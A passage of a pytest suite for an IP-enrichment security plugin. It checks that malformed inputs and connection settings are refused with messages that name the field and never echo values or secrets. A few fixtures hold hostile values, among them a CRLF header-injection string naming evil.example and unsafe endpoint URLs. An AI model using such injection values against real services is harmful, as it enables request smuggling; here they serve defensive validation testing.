            "connection.cache.ttl_seconds", "connection.timeout_seconds"} <= connection_names


@pytest.fixture
def no_env_credentials(monkeypatch):
    for var in ("DEFENDER_TENANT_ID", "DEFENDER_CLIENT_ID", "DEFENDER_CLIENT_SECRET"):
        monkeypatch.delenv(var, raising=False)


def _expect_named_error(call, error_cls, code: str, name: str, value: object, secrets: tuple = ()) -> PluginError:
    with pytest.raises(PluginError) as caught:
        call()
    error = caught.value
    assert isinstance(error, error_cls), f"{type(error).__name__}: {error.message}"
    assert error.code == code, error.message
    assert name in error.message, f"{error.message!r} does not name {name}"
    assert _MARK not in error.message, f"{error.message!r} echoes the rejected value"
    if isinstance(value, str) and len(value) >= 3:
        assert value not in error.message
    for secret in secrets:
        assert secret not in error.message
    return error


@pytest.mark.parametrize(("path", "value"), _cases(INPUT_FIELDS, "inputs", nulls_are_missing=False))
def test_a_wrong_type_in_an_input_field_is_input_invalid_naming_it(emu, path, value):
    inputs = _set(BASE_INPUTS, path, value)
    # A bad list item is reported at the item (inputs.ips[0]) or at the list (inputs.ips).
    name = _render("inputs", path[:1] if path[0] == "ips" else path)
    _expect_named_error(lambda: run_action("enrich_ip", inputs, _connection(emu)),
                        InputError, "input_invalid", name, value)


@pytest.mark.parametrize(("path", "value"), _cases(CONNECTION_FIELDS, "connection", nulls_are_missing=True))
def test_a_wrong_type_in_a_connection_field_is_config_invalid_naming_it(emu, no_env_credentials, path, value):
    connection = _set(_credential_base(emu, path), path, value)
    name = _render("connection", path)
    if value is None and path == ("client_secret",):
        name = "client_secret"  # no credential left: the message names the missing choice
    _expect_named_error(lambda: run_action("enrich_ip", BASE_INPUTS, connection),
                        ConfigError, "config_invalid", name, value, secrets=(emu.client_secret,))


def _credential_base(emu: Emulator, path: tuple) -> dict:
    """The emulator's connection, switched to the certificate credential when `path` belongs to it,
    so the field under test is the only problem (a second credential would be one more)."""
    connection = _connection(emu)
    if path[0] in ("certificate_path", "certificate_passphrase"):
        del connection["client_secret"]
        connection["certificate_path"] = emu.ca_path  # any existing file: validation fails first
    return connection


OPTIONAL_CONNECTION_PATHS = [
    path for path, _, _ in CONNECTION_FIELDS
    if not any(isinstance(p, int) for p in path) and path[0] not in CONNECTION_REQUIRED | {"client_secret"}
]


@pytest.mark.parametrize("path", OPTIONAL_CONNECTION_PATHS, ids=lambda p: _render("connection", p))
def test_a_null_optional_connection_key_counts_as_missing(no_env_credentials, path):
    doc = {"tenant_id": "11111111-2222-3333-4444-555555555555", "client_id": "66666666-7777-8888-9999-000000000000",
           "client_secret": "s3cr3t-" + _MARK, "quota": {"backend": "memory"}}
    conn = load_connection(_set(doc, path, None), env={})
    assert conn.tenant_id == doc["tenant_id"]


# Right JSON type, wrong value: the message still names the field and never quotes the value.
BAD_STRING_VALUES = {
    ("priority",): f"{_MARK}-priority",
}
BAD_CONNECTION_STRINGS = [
    (("tenant_id",), f"{_MARK} tenant", "config_invalid"),
    (("tenant_id",), f"{_MARK}.example\r\nHost: evil.example", "config_invalid"),
    (("tenant_id",), f"contoso.{_MARK}.example\n", "config_invalid"),
    (("client_id",), f"{_MARK}-client", "config_invalid"),
    (("client_id",), f"{_MARK}aa-bbbb-cccc-dddd-eeeeeeeeeeee", "config_invalid"),
    (("client_secret",), _MARK * 120, "config_invalid"),
    (("cloud",), f"{_MARK}-cloud", "config_invalid"),
    (("region",), f"{_MARK}-region", "config_invalid"),
    (("scope",), f"{_MARK} scope", "config_invalid"),
    (("proxy",), f"ftp://{_MARK}.example", "config_invalid"),
    (("proxy",), f"http://user:{_MARK}@proxy.example:3128/path", "config_invalid"),
    (("ca_bundle",), f"/nonexistent/{_MARK}-ca.pem", "config_invalid"),
    (("api_base_url",), f"http://{_MARK}.example", "unsafe_endpoint"),
    (("api_base_url",), f"https://{_MARK}.evil.example", "unsafe_endpoint"),
    (("api_base_url",), f"https://user:{_MARK}@127.0.0.1:1/", "unsafe_endpoint"),
    (("authority_host",), f"https://login.{_MARK}.example", "unsafe_endpoint"),
    (("quota", "backend"), f"{_MARK}-backend", "config_invalid"),
    (("quota", "redis_url"), f"http://{_MARK}.example", "config_invalid"),
]


@pytest.mark.parametrize(("path", "value"), list(BAD_STRING_VALUES.items()), ids=lambda v: ascii(v)[:40])
def test_a_bad_string_in_an_input_field_is_input_invalid_without_echo(emu, path, value):
    inputs = _set(BASE_INPUTS, path, value)
    _expect_named_error(lambda: run_action("enrich_ip", inputs, _connection(emu)),
                        InputError, "input_invalid", _render("inputs", path), value)


@pytest.mark.parametrize(("path", "value", "code"), BAD_CONNECTION_STRINGS,
                         ids=[f"{_render('connection', p)}-{i}" for i, (p, _, _) in enumerate(BAD_CONNECTION_STRINGS)])
def test_a_bad_string_in_a_connection_field_is_refused_without_echo(emu, no_env_credentials, path, value, code):
    connection = _set(_connection(emu), path, value)
    _expect_named_error(lambda: run_action("enrich_ip", BASE_INPUTS, connection),
                        ConfigError, code, _render("connection", path), value, secrets=(emu.client_secret,))


@pytest.mark.parametrize(
    ("inputs", "name"),
    [
        ({"ips": []}, "inputs.ips"),
        ({"ips": ""}, "inputs.ips"),
        ({"ips": " ,\n, \t"}, "inputs.ips"),
        ({"ips": ["8.8.8.8"] * 1001}, "inputs.ips"),
        ({"ips": ", ".join(["8.8.8.8"] * 1001)}, "inputs.ips"),
        ({"ips": ["8.8.8.8", "x" * 10_001]}, "inputs.ips"),
        ({"ips": "8.8.8.8 " * 12_501}, "inputs.ips"),  # over 100,000 characters
        ({"ips": ["8.8.8.8"], "look_back_hours": 0}, "inputs.look_back_hours"),
        ({"ips": ["8.8.8.8"], "look_back_hours": 721}, "inputs.look_back_hours"),
        ({"ips": ["8.8.8.8"], "max_wait_seconds": -1}, "inputs.max_wait_seconds"),
        ({"ips": ["8.8.8.8"], "max_wait_seconds": 3601}, "inputs.max_wait_seconds"),
        ({"ips": ["8.8.8.8"], "recent_first_seen_days": 0}, "inputs.recent_first_seen_days"),
        ({"ips": ["8.8.8.8"], "prevalence_thresholds": {"rare_max": 0}}, "inputs.prevalence_thresholds.rare_max"),
        ({"ips": ["8.8.8.8"], "prevalence_thresholds": {"rare_max": 50, "uncommon_max": 20}},
         "inputs.prevalence_thresholds"),
        ({"ips": ["8.8.8.8"], "prevalence_thresholds": {_MARK: 1}}, "inputs.prevalence_thresholds"),
        ({"ips": ["8.8.8.8"], "look_back_hours": 1.5}, "inputs.look_back_hours"),
    ],
    ids=lambda v: None if isinstance(v, dict) else v,
)
def test_out_of_range_and_malformed_inputs_are_input_invalid(emu, inputs, name):
    with pytest.raises(InputError) as caught:
        run_action("enrich_ip", inputs, _connection(emu))
    assert caught.value.code == "input_invalid"
    assert name in caught.value.message
    assert len(caught.value.message) < 300


@pytest.mark.parametrize(
    ("path", "value"),
    [(("timeout_seconds",), 0), (("timeout_seconds",), 301), (("quota", "share"), 0), (("quota", "share"), 1.5),
     (("quota", "lanes", "playbook"), 2), (("quota", "limits"), []), (("quota", "limits", 0, "calls"), 0),
     (("quota", "limits", 0, "per_seconds"), 0), (("cache", "ttl_seconds"), -1), (("quota", "limits", 0, "calls"), 1.5)],
    ids=lambda v: _render("connection", v) if isinstance(v, tuple) else repr(v),
)
def test_out_of_range_connection_numbers_are_config_invalid(emu, no_env_credentials, path, value):
    connection = _set(_connection(emu), path, value)
    _expect_named_error(lambda: run_action("enrich_ip", BASE_INPUTS, connection),
                        ConfigError, "config_invalid", _render("connection", path), value)


NOT_OBJECTS = [[], ["8.8.8.8"], [{"ips": ["8.8.8.8"]}], "8.8.8.8", f"{_MARK}", "", None, 0, 5, 1.5, True,
               math.inf, math.nan]


@pytest.mark.parametrize("inputs", NOT_OBJECTS, ids=repr)
def test_inputs_that_are_not_an_object_are_input_invalid(emu, inputs):
    error = _expect_named_error(lambda: run_action("enrich_ip", inputs, _connection(emu)),
                                InputError, "input_invalid", "inputs", inputs)
    assert "object" in error.message


@pytest.mark.parametrize("connection", NOT_OBJECTS, ids=repr)
def test_a_connection_that_is_not_an_object_is_config_invalid(connection):
    error = _expect_named_error(lambda: run_action("enrich_ip", BASE_INPUTS, connection),
                                ConfigError, "config_invalid", "connection", connection)
    assert "object" in error.message


def test_an_integral_float_look_back_is_sent_as_an_integer(emu):
    start = len(emu.requests)
    try:
        out = run_action("enrich_ip", {"ips": ["10.209.67.177"], "look_back_hours": 24.0, "use_cache": False},
                         _connection(emu))
    except InputError as error:  # refusing it is acceptable too
        assert "inputs.look_back_hours" in error.message
        return
    assert out["records"][0]["status"] == "enriched"
    assert [r.query for r in emu.requests[start:] if r.kind == "stats"] == [{"lookBackHours": "24"}]
